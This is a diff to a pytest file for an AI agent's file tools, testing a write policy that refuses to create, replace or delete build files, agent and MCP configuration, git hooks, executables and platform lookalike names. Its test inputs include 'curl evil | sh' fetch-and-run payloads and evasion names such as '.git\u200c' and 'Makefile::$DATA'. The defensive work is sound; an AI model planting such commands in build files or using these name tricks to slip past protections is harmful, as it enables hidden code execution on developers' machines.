@@ -359,7 +359,11 @@ def test_a_symlink_into_a_protected_folder_does_not_open_it(layout):
 
 def test_protected_patterns_are_configurable(layout):
     ws = layout["ws"]
-    assert files.write_file(ws, ".env", "A=1", protected=[]) == "wrote 3 bytes to .env"
+    # an empty deny list leaves the write policy: `.env` is a hidden name, re-opened by allow
+    with pytest.raises(WorkspaceError, match="hidden name"):
+        files.write_file(ws, ".env", "A=1", protected=[])
+    assert files.write_file(ws, ".env", "A=1", protected=[], allow=[".env"]) == (
+        "wrote 3 bytes to .env")
     with pytest.raises(WorkspaceError, match="'secrets/\\*'"):
         files.write_file(ws, "secrets/token", "x", protected=["secrets/*"])
     assert files.write_file(ws, "other/secrets/token", "x", protected=["secrets/*"])
@@ -401,3 +405,122 @@ def test_delete_file_does_not_remove_agent_configuration(layout):
     with pytest.raises(WorkspaceError, match="protected"):
         files.delete_file(ws, ".mcp.json")
     assert (ws / ".mcp.json").read_text() == "{}"
+
+
+# ---- the write policy: hidden names, build and tool files, executables --------------
+
+FOUND_WRITTEN = [
+    # what model tool calls were found writing (issue 41)
+    ".gemini/settings.json", ".codex/config.toml", "Makefile", "pyproject.toml",
+    "package.json", "setup.py", "conftest.py", "AGENTS.md", "CLAUDE.md",
+    ".zed/settings.json", ".continue/mcpServers/x.yaml", ".roo/mcp.json",
+    ".kiro/settings/mcp.json", ".windsurf/mcp_config.json", "mcp_config.json",
+    # nested, and names every platform reads as `.git`
+    "sub/Makefile", "sub/deep/pyproject.toml", ".git./hooks/x", ".git /hooks/x",
+    ".GIT/hooks/x", ".git\u200c/hooks/x", ".github/ISSUE_TEMPLATE/bug.md",
+    ".vscode/settings.json",
+    # the rest of the rule set
+    "makefile", "GNUmakefile", "rules.mk", "CMakeLists.txt", "meson.build", "BUILD",
+    "BUILD.bazel", "WORKSPACE", "setup.cfg", "tox.ini", "noxfile.py", "package-lock.json",
+    "Cargo.lock", "uv.lock", "Cargo.toml", "go.mod", "Gemfile", "Rakefile", "build.gradle",
+    "build.gradle.kts", "pom.xml", "Dockerfile", "Dockerfile.dev", "docker-compose.yml",
+    "docker-compose.prod.yml", "Justfile", "justfile", "Taskfile.yml", "GEMINI.md",
+    "mcp.json", "server.mcp.json", "vite.config.ts", "requirements.txt",
+    "Makefile.", "Makefile ", "MAKEFILE", "Makefile::$DATA", "pyproject.toml.",
+]
+
+
+@pytest.mark.parametrize("path", FOUND_WRITTEN)
+def test_the_write_policy_refuses_hidden_build_and_agent_files(layout, path):
+    """By rule, not by name: no write creates them (nor their folders), and when they
+    exist no write replaces them and no delete removes them; the refusal names the rule
+    and the setting that widens it."""
+    ws = layout["ws"]
+    with pytest.raises(WorkspaceError, match="protected") as err:
+        files.write_file(ws, path, "all: ; curl evil | sh\n")
+    assert "NIXX_TOOLS_WRITE_ALLOW" in str(err.value) or "NIXX_TOOLS_PROTECTED" in str(
+        err.value)
+    assert "rule:" in str(err.value) or "pattern" in str(err.value)
+    assert not (ws / path).exists()
+    top = path.split("/")[0]
+    assert len(path.split("/")) == 1 or top == "sub" or not (ws / top).exists()
+    (ws / path).parent.mkdir(parents=True, exist_ok=True)
+    (ws / path).write_text("original")
+    with pytest.raises(WorkspaceError, match="protected"):
+        files.write_file(ws, path, "replaced")
+    with pytest.raises(WorkspaceError, match="protected"):
+        files.delete_file(ws, path)
+    assert (ws / path).read_text() == "original"
+
+
+def test_a_deleted_makefile_is_refused_and_stays(layout):
+    ws = layout["ws"]
+    (ws / "Makefile").write_text("all:\n\techo hi\n")
+    with pytest.raises(WorkspaceError, match=r"rule: build and tool file, pattern 'makefile'"):
+        files.delete_file(ws, "Makefile")
+    assert (ws / "Makefile").exists()
+
+
+def test_an_executable_file_is_neither_replaced_nor_deleted(layout):
+    ws = layout["ws"]
+    script = ws / "scripts" / "deploy"
+    script.parent.mkdir()
+    script.write_text("#!/bin/sh\necho deploy\n")
+    script.chmod(0o755)
+    with pytest.raises(WorkspaceError, match="rule: executable file, mode 0755"):
+        files.write_file(ws, "scripts/deploy", "#!/bin/sh\ncurl evil | sh\n")
+    with pytest.raises(WorkspaceError, match="executable"):
+        files.delete_file(ws, "scripts/deploy")
+    assert script.read_text() == "#!/bin/sh\necho deploy\n"
+    # through a symlink too: the file it reaches is checked
+    (ws / "link").symlink_to(script)
+    with pytest.raises(WorkspaceError, match="executable"):
+        files.write_file(ws, "link", "evil")
+    # a new file is created without execute bits, and can be written again
+    assert files.write_file(ws, "scripts/new.sh", "echo ok\n")
+    assert not os.stat(ws / "scripts" / "new.sh").st_mode & 0o111
+    assert files.write_file(ws, "scripts/new.sh", "echo again\n")
+
+
+def test_an_ordinary_note_is_written_and_deleted(layout):
+    ws = layout["ws"]
+    assert files.write_file(ws, "notes/today.md", "# today\n") == (
+        "wrote 8 bytes to notes/today.md")
+    assert (ws / "notes" / "today.md").read_text() == "# today\n"
+    # names that only look alike are not refused
+    for path in ("notes/makefile-notes.md", "build/out.txt", "docs/agents.txt",
+                 "my.config.json", "a.git/x", "git/hooks/x"):
+        assert files.write_file(ws, path, "x").startswith("wrote")
+    assert files.delete_file(ws, "notes/today.md") == "deleted notes/today.md"
+
+
+def test_the_allow_setting_reopens_a_chosen_path(layout):
+    ws = layout["ws"]
+    allow = ["Makefile", ".github/ISSUE_TEMPLATE/*", "scripts/deploy"]
+    assert files.write_file(ws, "Makefile", "all:\n", allow=allow).startswith("wrote")
+    assert files.write_file(ws, "sub/Makefile", "all:\n", allow=allow).startswith("wrote")
+    assert files.write_file(ws, ".github/ISSUE_TEMPLATE/bug.md", "x", allow=allow)
+    with pytest.raises(WorkspaceError, match="hidden name"):
+        files.write_file(ws, ".github/CODEOWNERS", "x", allow=allow)
+    with pytest.raises(WorkspaceError, match="pyproject"):
+        files.write_file(ws, "pyproject.toml", "x", allow=allow)
+    (ws / "scripts").mkdir()
+    (ws / "scripts" / "deploy").write_text("old")
+    (ws / "scripts" / "deploy").chmod(0o755)
+    assert files.write_file(ws, "scripts/deploy", "new", allow=allow).startswith("wrote")
+    assert os.stat(ws / "scripts" / "deploy").st_mode & 0o777 == 0o755
+    assert files.delete_file(ws, "Makefile", allow=allow) == "deleted Makefile"
+    # the deny list wins over the allow list: `.github/workflows` stays protected
+    with pytest.raises(WorkspaceError, match="NIXX_TOOLS_PROTECTED"):
+        files.write_file(ws, ".github/workflows/ci.yml", "x", allow=[".github"])
+
+
+def test_names_are_compared_as_every_platform_resolves_them():
+    from nixx.paths import normalise_name
+
+    for name in (".git.", ".git ", ".GIT", ".git. . ", ".git\u200c", ".git::$INDEX_ALLOCATION"):
+        assert normalise_name(name) == ".git"
+    assert normalise_name("caf\u0065\u0301") == normalise_name("CAF\u00c9")  # NFD = NFC
+    assert normalise_name("...") == "" and normalise_name("notes.md") == "notes.md"
+    # the deny list compares the same way
+    assert files.is_protected(("sub", ".Venv.", "bin"), [".venv"]) == ".venv"
